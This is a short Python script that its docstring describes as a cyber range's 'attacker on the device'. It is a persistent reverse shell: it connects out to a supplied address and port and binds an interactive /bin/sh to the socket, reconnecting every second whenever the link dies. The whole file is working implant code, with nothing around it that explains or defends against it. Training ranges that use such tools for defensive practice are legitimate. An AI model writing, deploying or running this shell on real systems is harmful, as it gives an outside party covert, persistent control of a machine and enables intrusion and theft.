"""The range's attacker on the device: a shell that connects outside, and again whenever it dies."""

import argparse
import contextlib
import socket
import subprocess
import time

AGAIN_S, CONNECT_S = 1.0, 3.0


def main() -> None:
    """`ADDRESS PORT`; until it is ended."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    asked = parser.parse_args()
    while True:
        with contextlib.suppress(OSError):
            _shell(asked.address, asked.port)
        time.sleep(AGAIN_S)


def _shell(address: str, port: int) -> None:
    with socket.create_connection((address, port), timeout=CONNECT_S) as line:
        line.settimeout(None)
        handle = line.fileno()
        shell = ["/bin/sh", "-i"]
        subprocess.run(shell, stdin=handle, stdout=handle, stderr=subprocess.DEVNULL, check=False)


if __name__ == "__main__":
    main()
